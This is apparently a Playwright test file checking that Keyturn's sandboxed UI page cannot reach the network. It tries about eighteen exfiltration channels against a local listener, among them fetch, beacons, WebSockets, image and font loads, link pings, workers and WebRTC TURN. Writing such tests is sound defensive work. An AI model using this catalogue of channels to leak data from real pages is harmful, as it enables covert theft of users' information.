import { expect, type Page } from '@playwright/test';
import { test } from './hosts/shared-keyturn';
import { startListener, type Listener } from './hosts/listener';

let listener: Listener;
let address: string;
let invited = 0;

test.beforeAll(async () => {
  listener = await startListener();
  address = `http://127.0.0.1:${listener.port}`;
});

test.afterAll(async () => {
  // Once more at the very end: an attempt that came through late is found here.
  expect(listener.visits()).toBe(invited);
  await listener.stop();
});

/** A visit of our own proves that the listener works, and comes after all that the page has tried before. */
const visit = async (): Promise<void> => {
  await (await fetch(address)).text();
  invited += 1;
};

/** Each runs in the page and settles when the attempt has ended, one way or the other. */
const attempts: Readonly<Record<string, (address: string) => Promise<unknown>>> = {
  'fetch from the network': (to) => fetch(to).catch(() => undefined),
  'post to the network': (to) =>
    fetch(to, { method: 'POST', body: 'secret', mode: 'no-cors', keepalive: true }).catch(() => undefined),
  'ask by XMLHttpRequest': (to) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onloadend = resolve;
      request.open('POST', to);
      request.send('secret');
    }),
  'send a beacon': (to) => Promise.resolve(navigator.sendBeacon(to, 'secret')),
  'open a web socket': (to) =>
    new Promise((resolve) => {
      const socket = new WebSocket(to.replace('http', 'ws'));
      socket.onerror = socket.onopen = resolve;
    }),
  'follow an event stream': (to) =>
    new Promise((resolve) => {
      const source = new EventSource(to);
      source.onerror = source.onopen = resolve;
    }),
  'open a WebTransport': (to) => new WebTransport(to.replace('http:', 'https:')).ready.catch(() => undefined),
  'load an image': (to) =>
    new Promise((resolve) => {
      const image = new Image();
      image.onload = image.onerror = resolve;
      image.src = `${to}/?secret`;
    }),
  'load a video': (to) =>
    new Promise((resolve) => {
      const video = document.createElement('video');
      video.onloadeddata = video.onerror = resolve;
      video.src = to;
    }),
  'load a style sheet': (to) =>
    new Promise((resolve) => {
      const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: to });
      link.onload = link.onerror = resolve;
      document.head.append(link);
    }),
  'load a font': (to) => new FontFace('Stolen', `url(${to})`).load().catch(() => undefined),
  'fetch ahead of time': (to) =>
    new Promise((resolve) => {
      const link = Object.assign(document.createElement('link'), { rel: 'prefetch', href: to });
      link.onload = link.onerror = resolve;
      document.head.append(link);
    }),
  'connect ahead of time': (to) => {
    for (const rel of ['preconnect', 'dns-prefetch'])
      document.head.append(Object.assign(document.createElement('link'), { rel, href: to }));
    return Promise.resolve();
  },
  'run a worker that fetches': (to) =>
    new Promise((resolve) => {
      try {
        const source = new Blob([`fetch(${JSON.stringify(to)})`], { type: 'text/javascript' });
        const worker = new Worker(URL.createObjectURL(source));
        worker.onerror = worker.onmessage = resolve;
      } catch (error) {
        resolve(error);
      }
    }),
  'register a service worker': (to) => navigator.serviceWorker.register(to).catch(() => undefined),
  'post a form': (to) => {
    const form = Object.assign(document.createElement('form'), { action: to, method: 'POST' });
    document.body.append(form);
    form.submit();
    return Promise.resolve();
  },
  'ping through a link': (to) => {
    const link = Object.assign(document.createElement('a'), {
      href: '/index.html',
      target: '_blank',
      ping: to,
    });
    document.body.append(link);
    link.click();
    return Promise.resolve();
  },
  'reach a peer by WebRTC, over UDP or TCP': async (to) => {
    const { hostname, port } = new URL(to);
    const peer = new RTCPeerConnection({
      iceServers: [
        { urls: `stun:${hostname}:${port}` },
        { urls: `turn:${hostname}:${port}?transport=tcp`, username: 'u', credential: 'c' },
      ],
    });
    const gathered = new Promise<void>((resolve) => {
      peer.onicegatheringstatechange = () => {
        if (peer.iceGatheringState === 'complete') resolve();
      };
    });
    peer.createDataChannel('leak');
    await peer.setLocalDescription();
    await gathered;
    peer.close();
  },
};

const expectSilence = async (page: Page): Promise<void> => {
  await visit();
  expect(listener.visits()).toBe(invited);
  expect(page.url()).toBe('keyturn-ui://app/index.html');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
};

for (const [name, attempt] of Object.entries(attempts)) {
  test(`a page gone bad cannot ${name}`, async ({ page }) => {
    await page.evaluate(attempt, address);
    await expectSilence(page);
  });
}
